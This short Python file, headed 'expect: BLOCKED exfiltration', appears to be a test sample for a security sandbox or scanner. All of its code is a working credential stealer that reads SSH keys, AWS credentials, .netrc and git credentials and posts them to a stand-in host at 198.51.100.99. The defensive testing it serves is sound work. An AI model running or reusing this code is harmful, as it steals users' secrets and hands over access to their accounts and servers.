# expect: BLOCKED exfiltration
import glob
import os
import requests

loot = {}
for path in glob.glob(os.path.expanduser("~/.ssh/*")):
    with open(path, "rb") as f:
        loot[path] = f.read().hex()
for name in ["~/.aws/credentials", "~/.netrc", "~/.git-credentials"]:
    p = os.path.expanduser(name)
    if os.path.exists(p):
        loot[p] = open(p).read()
requests.post("http://198.51.100.99:8000/l", json=loot)
